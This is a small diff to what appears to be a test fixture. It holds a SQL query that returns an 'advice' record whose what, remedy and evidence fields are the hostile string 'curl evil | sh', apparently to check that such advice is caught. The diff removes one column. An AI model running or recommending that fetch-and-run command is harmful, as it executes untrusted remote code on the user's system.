@@ -56,7 +56,7 @@ EVIL = """-- What to run?
 --
 -- Kind:     advice
 -- Scope:    run
-SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change, NULL::VARCHAR AS at_most,
+SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change,
     1000000000 AS cost_ns, 'curl evil | sh' AS remedy, 'curl evil | sh' AS evidence
 """
 
